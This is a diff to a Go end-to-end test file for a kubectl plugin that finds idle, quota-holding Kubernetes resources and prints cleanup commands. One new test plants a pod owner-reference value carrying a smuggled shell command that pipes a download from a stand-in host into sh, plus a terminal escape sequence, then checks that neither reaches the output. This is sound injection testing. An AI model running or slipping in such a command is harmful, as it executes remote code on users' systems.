@@ -14,6 +14,7 @@ import (
 	corev1 "k8s.io/api/core/v1"
 	discoveryv1 "k8s.io/api/discovery/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
@@ -97,6 +98,7 @@ var _ = Describe("kubectl crq reclaim", Ordered, ContinueOnFailure, func() {
 		setPods(ctx, run, client.MatchingLabels{"app": "web"})
 		Expect(p.findings(ctx, "--older-than", "0s")).NotTo(HaveKey("PodsIdle Deployment/web"))
 		setPods(ctx, func(pod *corev1.Pod) {
+			pod.Status.Conditions[0].Status = corev1.ConditionFalse
 			pod.Status.ContainerStatuses = []corev1.ContainerStatus{{
 				Name: "main", RestartCount: 9, State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}},
 			}}
@@ -109,8 +111,8 @@ var _ = Describe("kubectl crq reclaim", Ordered, ContinueOnFailure, func() {
 		ready(ctx, p, 5)
 		p.mustApply(ctx, strings.Replace(manifests["deployment"], "image: web", "image: web:2", 1))
 		Eventually(ctx, func(ctx context.Context) map[string]string { return p.findings(ctx, "--older-than", "0s") }).Should(
-			HaveKeyWithValue("RolloutStuck Deployment/web", "kubectl rollout undo deployment/web -n reclaim-team"))
-		mustSucceed(kubectl(ctx, p.kubeconfig, nil, "rollout", "undo", "deployment/web", "-n", p.namespace))
+			HaveKeyWithValue("RolloutStuck Deployment/web", "kubectl rollout undo deployment/web --to-revision=1 -n reclaim-team"))
+		mustSucceed(kubectl(ctx, p.kubeconfig, nil, "rollout", "undo", "deployment/web", "--to-revision=1", "-n", p.namespace))
 		Eventually(ctx, func(ctx context.Context) map[string]string { return p.findings(ctx, "--older-than", "0s") }).ShouldNot(
 			HaveKey("RolloutStuck Deployment/web"))
 	})
@@ -134,7 +136,9 @@ var _ = Describe("kubectl crq reclaim", Ordered, ContinueOnFailure, func() {
 
 	It("finds load balancers without endpoints", func(ctx SpecContext) {
 		for _, name := range []string{"used", "unused"} {
-			mustCreate(ctx, builders.Service(p.namespace, name).Type(corev1.ServiceTypeLoadBalancer, 80).Obj())
+			service := builders.Service(p.namespace, name).Type(corev1.ServiceTypeLoadBalancer, 80).Obj()
+			service.Spec.Selector = map[string]string{"app": name}
+			mustCreate(ctx, service)
 		}
 		mustCreate(ctx, &discoveryv1.EndpointSlice{
 			ObjectMeta:  metav1.ObjectMeta{Namespace: p.namespace, Name: "used", Labels: map[string]string{discoveryv1.LabelServiceName: "used"}},
@@ -155,6 +159,34 @@ var _ = Describe("kubectl crq reclaim", Ordered, ContinueOnFailure, func() {
 		Eventually(ctx, func(ctx context.Context) string {
 			return mustSucceed(crqAs(ctx, p.kubeconfig, "reclaim", "-n", p.namespace, "--older-than", "0s"))
 		}).Should(MatchRegexp(`PersistentVolumeClaim/data-db-1: no pod uses it. It was created \S+ ago, and is kept by StatefulSet db, ordinal 1.`))
+		Expect(p.findings(ctx, "--older-than", "0s")).To(And(HaveKeyWithValue("ClaimUnused PersistentVolumeClaim/data-db-1", ""),
+			HaveKeyWithValue("ClaimUnused PersistentVolumeClaim/lost", "kubectl delete persistentvolumeclaim/lost -n reclaim-team")))
+	})
+
+	It("takes nobody's word for who made a pod", func(ctx SpecContext) {
+		controlled := func(name, version, kind, owner string) {
+			GinkgoHelper()
+			pod := builders.Pod(p.namespace, name).Request("cpu", "10m").Obj()
+			pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: version, Kind: kind, Name: owner, UID: types.UID(name), Controller: ptr.To(true)}}
+			mustCreate(ctx, pod)
+		}
+		controlled("mirrored", "v1", "Node", "node-1")
+		controlled("rolled-out", "argoproj.io/v1alpha1", "Rollout", "front")
+		controlled("tricky", "e.example/v1", "Pod -n shop a; curl evil.example|sh #", "n\x1b]0;owned\a")
+		Expect(p.findings(ctx, "--older-than", "0s")).To(And(HaveKeyWithValue("PodsIdle Rollout/front", ""),
+			HaveKeyWithValue("PodsIdle Pod/tricky", "kubectl delete pod/tricky -n reclaim-team"), Not(HaveKey("PodsIdle Node/node-1"))))
+		Expect(mustSucceed(crqAs(ctx, p.kubeconfig, "reclaim", "-n", p.namespace, "--older-than", "0s"))).To(And(
+			ContainSubstring("No command: this command doesn't know how to make Rollout/front smaller. Ask those who run it."),
+			Not(ContainSubstring("evil.example")), Not(ContainSubstring("\x1b"))))
+	})
+
+	It("says so if there is no quota, or no such namespace", func(ctx SpecContext) {
+		namespace(ctx, "reclaim-free")
+		Expect(mustCrq(ctx, "reclaim", "-n", "reclaim-free")).To(Equal("Nothing was found that holds quota and does nothing.\n\n" +
+			"Note: No quota limits namespace reclaim-free, so that nothing in it holds any.\n"))
+		got := crq(ctx, "reclaim", "-n", "reclaim-none")
+		Expect(got.status).To(Equal(1))
+		Expect(got.stderr).To(Equal("error: namespace reclaim-none doesn't exist\n"))
 	})
 
 	It("looks at all namespaces, for those who may", func(ctx SpecContext) {
@@ -166,7 +198,7 @@ var _ = Describe("kubectl crq reclaim", Ordered, ContinueOnFailure, func() {
 
 	It("changes nothing, and prints commands that can be run", func(ctx SpecContext) {
 		commands := mustSucceed(crqAs(ctx, p.kubeconfig, "reclaim", "-n", p.namespace, "--older-than", "0s",
-			"-o", `jsonpath={range .namespaces[*].findings[*]}{.command}{"\n"}{end}`))
+			"-o", `jsonpath={range .namespaces[*].findings[?(@.command)]}{.command}{"\n"}{end}`))
 		for line := range strings.Lines(commands) {
 			words := strings.Fields(line)
 			if words[1] == "rollout" {
